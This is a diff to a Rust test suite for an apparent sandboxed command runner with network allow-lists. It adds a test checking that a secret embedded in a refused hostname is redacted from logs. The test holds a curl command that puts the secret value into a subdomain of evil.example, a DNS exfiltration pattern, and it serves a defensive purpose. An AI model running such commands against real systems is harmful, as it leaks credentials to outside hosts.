@@ -87,7 +87,7 @@ struct Street {
 impl Street {
     async fn new() -> Self {
         let registry = registry().await;
-        let hall = Hall::in_world(Outside { resolver: Arc::new(World(registry)), admits }).await;
+        let hall = Hall::in_world(Outside { resolver: Arc::new(World(registry)), admits: Arc::new(admits) }).await;
         let project = hall.project("p", ProjectSource::Empty).await;
         Self { hall, registry, project }
     }
@@ -240,4 +240,21 @@ async fn what_a_member_allows_holds_for_commands_at_work_and_what_is_none_leads_
     let id = street.runs(&[line]).await;
     let printed = street.printed(id).await.remove(0);
     assert!(printed.contains("from the registry") && printed.contains("private network"), "{printed}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_secret_in_the_name_of_a_refused_host_is_told_nowhere() {
+    let street = Street::new().await;
+    street.set(NetworkPolicy::AllowList, &[]).await;
+    let (team, project) = (&street.hall.team, street.project.id);
+    team.put_project_secret(&street.hall.anna, project, "TOKEN", "Tok0123SecretValue", None).await.unwrap();
+    let ask = "curl -s -o /dev/null http://tok0123secretvalue.evil.example/ http://plain.example/; true";
+    let id = street.runs(&[ask]).await;
+    street.printed(id).await;
+    let refused = async || Some(team.network(project).await.unwrap().refused).filter(|rows| !rows.is_empty());
+    let hosts: Vec<String> = street.hall.until("a refusal", refused).await.into_iter().map(|row| row.host).collect();
+    assert_eq!(hosts, ["plain.example"]);
+    let told = street.notes().await.join("\n");
+    assert!(told.contains("[secret TOKEN].evil.example") && told.contains("plain.example"), "{told}");
+    assert!(!told.contains("tok0123"), "{told}");
 }
